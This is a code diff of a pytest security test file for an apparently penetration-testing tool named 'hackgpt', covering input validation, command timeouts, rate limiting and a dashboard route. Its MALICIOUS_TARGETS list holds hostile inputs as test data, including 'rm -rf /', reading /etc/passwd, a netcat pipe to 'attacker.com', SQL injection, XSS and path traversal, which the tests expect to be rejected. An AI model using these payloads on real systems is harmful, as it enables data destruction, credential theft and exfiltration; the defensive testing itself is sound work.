@@ -4,43 +4,40 @@ Tests for input validation edge cases, ethical disclaimers,
 and security-sensitive code paths.
 """
 
-from unittest.mock import MagicMock, patch
+import subprocess
+from unittest.mock import patch
 
 import pytest
 
+# Skip the whole module (instead of erroring per test) if hackgpt can't be imported
+hackgpt = pytest.importorskip("hackgpt")
+
+MALICIOUS_TARGETS = (
+    "example.com; rm -rf /",
+    "$(whoami)",
+    "`id`",
+    "example.com && cat /etc/passwd",
+    "127.0.0.1 | nc attacker.com 4444",
+    "' OR 1=1 --",
+    "<script>alert(1)</script>",
+    "example.com\nX-Injected: header",
+    "../../../etc/passwd",
+)
+
 
 class TestInputValidationSecurity:
     """Ensure malicious inputs are properly rejected."""
 
-    MALICIOUS_TARGETS = [
-        "example.com; rm -rf /",
-        "$(whoami)",
-        "`id`",
-        "example.com && cat /etc/passwd",
-        "127.0.0.1 | nc attacker.com 4444",
-        "' OR 1=1 --",
-        "<script>alert(1)</script>",
-        "example.com\nX-Injected: header",
-        "../../../etc/passwd",
-    ]
-
-    @pytest.mark.parametrize("target", MALICIOUS_TARGETS)
-    def test_rejects_malicious_targets(self, target):
-        from hackgpt import InputValidator
-
-        ok, _ = InputValidator.validate_target(target)
-        assert ok is False, f"Should have rejected: {target!r}"
+    def test_rejects_malicious_targets(self):
+        accepted = [t for t in MALICIOUS_TARGETS if hackgpt.InputValidator.validate_target(t)[0]]
+        assert not accepted, f"Should have rejected: {accepted!r}"
 
     def test_rejects_null_bytes_in_target(self):
-        from hackgpt import InputValidator
-
-        ok, _ = InputValidator.validate_target("example\x00.com")
+        ok, _ = hackgpt.InputValidator.validate_target("example\x00.com")
         assert ok is False
 
     def test_strips_whitespace(self):
-        from hackgpt import InputValidator
-
-        ok, result = InputValidator.validate_target("  example.com  ")
+        ok, result = hackgpt.InputValidator.validate_target("  example.com  ")
         assert ok is True
         assert result == "example.com"
 
@@ -48,60 +45,90 @@ class TestInputValidationSecurity:
 class TestToolManagerSecurity:
     """Verify safe command execution."""
 
-    def test_command_timeout_enforced(self):
-        from hackgpt import ToolManager
-
-        tm = ToolManager()
+    @patch("hackgpt.subprocess.run", side_effect=subprocess.TimeoutExpired(cmd="sleep 30", timeout=1))
+    def test_command_timeout_enforced(self, mock_run):
+        tm = hackgpt.ToolManager()
         result = tm.run_command("sleep 30", timeout=1)
+        assert mock_run.call_args.kwargs["timeout"] == 1
         assert result["success"] is False
+        assert result["stderr"] == "Command timed out after 1 seconds"
 
     def test_stderr_captured_on_failure(self):
-        from hackgpt import ToolManager
-
-        tm = ToolManager()
+        tm = hackgpt.ToolManager()
         result = tm.run_command("ls /nonexistent_dir_12345")
         assert result["success"] is False
         assert result["stderr"]  # should have error output
 
 
+class FakeClock:
+    """Manually advanced time source for rate limiter tests."""
+
+    def __init__(self, start: float = 1000.0):
+        self.now = start
+
+    def __call__(self) -> float:
+        return self.now
+
+    def advance(self, seconds: float) -> None:
+        self.now += seconds
+
+
+# Every rate limiting algorithm under test; each takes (max_requests, window_seconds, clock).
+RATE_LIMITERS = {
+    "sliding_window": hackgpt.RateLimiter,
+}
+
+
 class TestRateLimiterSecurity:
     """Rate limiter must prevent abuse."""
 
-    def test_blocks_rapid_calls(self):
-        from hackgpt import RateLimiter
+    CAPACITY = 5
+    WINDOW = 60
 
-        rl = RateLimiter(max_requests=5, window_seconds=60)
-        for _ in range(5):
-            rl.allow("flood")
-        # 6th call should be blocked
-        assert rl.allow("flood") is False
+    @pytest.fixture
+    def clock(self):
+        return FakeClock()
 
-    def test_allows_after_window_expires(self):
-        """After the window passes, requests should be allowed again."""
-        import time
+    @pytest.fixture(params=sorted(RATE_LIMITERS))
+    def limiter(self, request, clock):
+        return RATE_LIMITERS[request.param](max_requests=self.CAPACITY, window_seconds=self.WINDOW, clock=clock)
 
-        from hackgpt import RateLimiter
+    def test_blocks_rapid_calls(self, limiter):
+        for _ in range(self.CAPACITY):
+            assert limiter.allow("flood") is True
+        # Next call should be blocked
+        assert limiter.allow("flood") is False
 
-        rl = RateLimiter(max_requests=1, window_seconds=1)
-        rl.allow("key")
-        assert rl.allow("key") is False
-        time.sleep(1.1)
-        assert rl.allow("key") is True
+    def test_allows_after_window_expires(self, limiter, clock):
+        """After the window passes, a full burst should be allowed again."""
+        for _ in range(self.CAPACITY):
+            limiter.allow("key")
+        assert limiter.allow("key") is False
+        clock.advance(self.WINDOW)
+        assert all(limiter.allow("key") for _ in range(self.CAPACITY))
+        assert limiter.allow("key") is False
+
+    def test_keys_are_independent(self, limiter):
+        for _ in range(self.CAPACITY):
+            limiter.allow("a")
+        assert limiter.allow("a") is False
+        assert limiter.allow("b") is True
+
+
+@pytest.fixture(scope="module")
+def dash_client(hackgpt_instance):
+    """Test client for a WebDashboard built once per module."""
+    wd = hackgpt.WebDashboard(hackgpt_instance)
+    wd.app.config["TESTING"] = True
+    return wd.app.test_client()
 
 
 class TestWebDashboardSecurity:
     """Web dashboard should not accept arbitrary payloads."""
 
-    @patch("hackgpt.subprocess.run")
-    def test_web_dashboard_has_routes(self, mock_run):
+    def test_web_dashboard_has_routes(self, dash_client):
         """WebDashboard should set up /api/status route."""
-        mock_run.return_value = MagicMock(returncode=0, stdout="", stderr="")
-        from hackgpt import HackGPT, WebDashboard
-
-        hgpt = HackGPT()
-        wd = WebDashboard(hgpt)
-        client = wd.app.test_client()
-        resp = client.get("/api/status")
+        resp = dash_client.get("/api/status")
         assert resp.status_code == 200
         data = resp.get_json()
         assert data["status"] == "running"